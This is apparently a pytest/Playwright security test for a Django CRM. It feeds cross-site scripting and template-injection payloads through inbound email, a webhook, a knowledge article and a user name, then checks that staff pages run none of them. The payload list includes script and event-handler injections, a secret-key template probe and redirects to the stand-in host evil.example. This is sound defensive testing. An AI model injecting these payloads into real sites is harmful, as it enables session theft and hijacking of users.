"""What strangers send stays text: every entry gets what attackers write, then staff opens the pages."""

import json
from email.message import EmailMessage
from email.utils import formataddr
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Dialog
from pytest_django.live_server_helper import LiveServer

from channels import factories
from channels.inbound import services as inbound
from channels.inbox.models import Conversation
from channels.knowledge import factories as knowledge
from crm.accounts import factories as people
from crm.accounts.policy import Role
from crm.tests.browser.conftest import Look, Opener
from crm.tests.browser.pages import settle

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# A small sample of our own; where the public collections are, some of each of theirs as well.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
SHARED = Path(settings.BASE_DIR).parent / "shared" / "data" / "fuzz" / "payloads" / "xss"
MOST_SHARED, LONGEST = 60, 400


def sample() -> list[str]:
    lines: list[str] = []
    for file in sorted(SHARED.glob("*.txt")) if SHARED.is_dir() else []:
        found = [one for one in file.read_text(errors="replace").splitlines() if 0 < len(one) < LONGEST]
        lines += found[:: max(1, len(found) // MOST_SHARED)]
    return PAYLOADS + [one for one in lines if "\x00" not in one]


def test_nothing_that_strangers_send_ever_runs(
    open_page: Opener, live_server: LiveServer, transactional_db: None
) -> None:
    attack(PAYLOADS, open_page, live_server)


@pytest.mark.fault
@pytest.mark.skipif(not SHARED.is_dir(), reason=f"needs the public collections in {SHARED}")
def test_nothing_of_the_public_collections_ever_runs(
    open_page: Opener, live_server: LiveServer, transactional_db: None
) -> None:
    attack(sample(), open_page, live_server)


def attack(payloads: list[str], open_page: Opener, live_server: LiveServer) -> None:
    mail = factories.channel(name="Mail")
    hook = factories.channel(connector="webhook_generic", kind="web", name="Hook")
    for number in range(0, len(payloads), 25):
        some = payloads[number : number + 25]
        inbound.take_now(mail, written(number, some), f"mail-{number}")
        inbound.take_now(hook, told(number, some), f"hook-{number}")
    article = knowledge.published(f"Return {PAYLOADS[1]}", "\n\n".join(payloads[:60]))
    user = people.user(Role.OPERATIONS, Role.ADMIN, name=PAYLOADS[0])
    client = Client()
    client.force_login(user)
    page = open_page(Look(), live_server.url, client.cookies[settings.SESSION_COOKIE_NAME].value)
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    conversations = list(Conversation.objects.select_related("customer"))
    assert len(conversations) >= 2
    paths = [reverse("inbox:list") + "?queue=all", reverse("customers:list"), reverse("channels:list")]
    paths += [reverse("inbox:conversation", args=[one.pk]) for one in conversations]
    paths += [reverse("customers:detail", args=[one.customer_id]) for one in conversations[:3]]
    paths += [reverse("knowledge:article", args=[article.pk])]
    for path in paths:
        page.goto(live_server.url + path)
        settle(page)
        assert page.url.startswith(live_server.url)
    assert dialogs == []


def written(number: int, payloads: list[str]) -> bytes:
    mail = EmailMessage()
    mail["From"] = formataddr((payloads[0][:40], f"stranger{number}@mail.example"))
    mail["To"] = "news@example.com"
    mail["Message-ID"] = f"<{number}@mail.example>"
    mail["Subject"] = " ".join(payloads[:3])[:200].replace("\r", " ")
    mail.set_content("\n".join(payloads).encode(errors="replace").decode())
    html = "<div>".join(payloads).encode(errors="replace").decode()
    mail.add_alternative(f"<html><body>{html}</body></html>", subtype="html")
    return mail.as_bytes()


def told(number: int, payloads: list[str]) -> bytes:
    said = {
        "type": "message",
        "id": f"{number}",
        "from": {"email": f"hook{number}@mail.example", "name": payloads[0]},
        "subject": payloads[1] if len(payloads) > 1 else payloads[0],
        "text": "\n".join(payloads),
        "html": "<p>".join(payloads),
        "data": {"page": payloads[0]},
    }
    return json.dumps(said).encode()
